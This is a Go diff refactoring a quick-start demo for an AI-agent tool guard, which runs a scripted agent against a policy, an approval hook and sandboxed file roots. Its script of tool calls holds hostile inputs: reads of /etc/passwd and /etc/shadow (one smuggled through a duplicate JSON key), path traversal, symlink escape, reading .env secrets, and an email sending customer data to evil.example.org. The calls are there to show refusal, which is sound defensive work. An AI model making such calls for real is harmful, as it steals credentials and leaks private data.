@@ -83,17 +83,6 @@ func run(ctx context.Context, w io.Writer, logPath string) error {
 	if err != nil {
 		return err
 	}
-	// The file tools open files below these directories only.
-	readRoot, err := fsroot.Open(workspace)
-	if err != nil {
-		return err
-	}
-	defer readRoot.Close()
-	writeRoot, err := fsroot.Open(filepath.Join(workspace, "out"))
-	if err != nil {
-		return err
-	}
-	defer writeRoot.Close()
 
 	// 1. The policy, compiled once.
 	p, err := scope.Parse(policySrc, scope.WithFilename("policy.yaml"))
@@ -106,6 +95,7 @@ func run(ctx context.Context, w io.Writer, logPath string) error {
 	if err != nil {
 		return err
 	}
+	defer log.Close()
 
 	// 3. A human in the loop, scripted here: approve mail to partners only.
 	approver := toolguard.ApproverFunc(func(ctx context.Context, req toolguard.ApprovalRequest) (toolguard.Approval, error) {
@@ -124,6 +114,47 @@ func run(ctx context.Context, w io.Writer, logPath string) error {
 	if err != nil {
 		return err
 	}
+	closeTools, err := registerTools(g, workspace)
+	if err != nil {
+		return err
+	}
+	defer closeTools()
+
+	// 5. The agent: a principal and a script of tool calls, as a model might make them.
+	bot := toolguard.WithPrincipal(ctx, scope.Principal{
+		ID:     "support-bot",
+		Scopes: []string{"files.write"}, // brought by its token; the policy adds files.read and mail.send
+		Attrs:  map[string]any{"workspace": workspace},
+	})
+	fmt.Fprintln(w, "agentguard quick start — policy revision", p.Revision()[:12])
+	for _, c := range script(workspace) {
+		out, err := g.Call(bot, c.tool, json.RawMessage(c.args))
+		line := fmt.Sprintf("%s %s\n    %s\n", c.tool, c.args, describe(out, err))
+		fmt.Fprint(w, strings.ReplaceAll(line, workspace, "<workspace>"))
+	}
+
+	// 6. Close the log and verify the whole chain.
+	if err := log.Close(); err != nil {
+		return err
+	}
+	return verifyLog(w, logPath, workspace)
+}
+
+// registerTools registers the three tools. The file tools open files with
+// fsroot, below the workspace (read) and its out/ directory (write) only,
+// so a path that leads elsewhere through a link is refused when the file is
+// opened, even if the link appeared after the policy's decision.
+func registerTools(g *toolguard.Guard, workspace string) (closeRoots func(), err error) {
+	readRoot, err := fsroot.Open(workspace)
+	if err != nil {
+		return nil, err
+	}
+	writeRoot, err := fsroot.Open(filepath.Join(workspace, "out"))
+	if err != nil {
+		readRoot.Close()
+		return nil, err
+	}
+	closeRoots = func() { readRoot.Close(); writeRoot.Close() }
 	err = errors.Join(
 		toolguard.Register(g, "read_file", "Read a text file.", func(ctx context.Context, in readArgs) (string, error) {
 			b, err := readRoot.ReadFile(in.Path)
@@ -137,22 +168,21 @@ func run(ctx context.Context, w io.Writer, logPath string) error {
 		}),
 	)
 	if err != nil {
-		return err
+		closeRoots()
+		return nil, err
 	}
+	return closeRoots, nil
+}
 
-	// 5. The agent: a principal and a script of tool calls, as a model might make them.
-	bot := toolguard.WithPrincipal(ctx, scope.Principal{
-		ID:     "support-bot",
-		Scopes: []string{"files.write"}, // brought by its token; the policy adds files.read and mail.send
-		Attrs:  map[string]any{"workspace": workspace},
-	})
+// script is the agent's tool calls, as a model might make them.
+func script(workspace string) []struct{ tool, args string } {
 	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
-	calls := []struct{ tool, args string }{
+	return []struct{ tool, args string }{
 		{"read_file", `{"path":` + q(workspace+"/notes.txt") + `}`},
 		{"read_file", `{"path":42}`},
 		{"read_file", `{"path":"/etc/passwd"}`},
 		{"read_file", `{"path":` + q(workspace+"/../../etc/passwd") + `}`},
-		{"read_file", `{"path":` + q(workspace+"/hr/salaries.csv") + `}`},
+		{"read_file", `{"path":` + q(workspace+"/hr/salaries.csv") + `}`}, // hr is a link out of the workspace
 		{"read_file", `{"path":` + q(workspace+"/.env") + `}`},
 		{"read_file", `{"path":"/w/a","path":"/etc/shadow"}`},
 		{"delete_file", `{"path":` + q(workspace+"/notes.txt") + `}`},
@@ -163,17 +193,10 @@ func run(ctx context.Context, w io.Writer, logPath string) error {
 		{"send_email", `{"to":"billing@partner.example.net","subject":"Refund 42","body":"Please process."}`},
 		{"send_email", `{"to":"mallory@evil.example.org","subject":"data","body":"all customers"}`},
 	}
-	fmt.Fprintln(w, "agentguard quick start — policy revision", p.Revision()[:12])
-	for _, c := range calls {
-		out, err := g.Call(bot, c.tool, json.RawMessage(c.args))
-		line := fmt.Sprintf("%s %s\n    %s\n", c.tool, c.args, describe(out, err))
-		fmt.Fprint(w, strings.ReplaceAll(line, workspace, "<workspace>"))
-	}
+}
 
-	// 6. Close the log and verify the whole chain.
-	if err := log.Close(); err != nil {
-		return err
-	}
+// verifyLog verifies the whole audit log and says where it is.
+func verifyLog(w io.Writer, logPath, workspace string) error {
 	f, err := os.Open(logPath)
 	if err != nil {
 		return err
